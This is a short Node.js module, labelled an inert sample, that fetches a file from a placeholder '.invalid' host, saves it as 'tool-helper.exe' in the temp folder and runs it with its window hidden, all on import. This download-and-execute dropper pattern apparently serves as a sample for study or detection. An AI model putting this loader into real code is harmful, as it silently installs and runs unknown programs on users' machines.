// Inert sample: a stream into a file by the library's own pipeline, then the file is started without a window.
import { createWriteStream } from 'node:fs';
import { execFile } from 'node:child_process';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pipeline } from 'node:stream/promises';

const target = join(tmpdir(), 'tool-helper.exe');

export async function prepare() {
  const response = await fetch('https://tool-helper.invalid/latest');
  await pipeline(response.body, createWriteStream(target));
  execFile(target, [], { windowsHide: true });
}

await prepare();
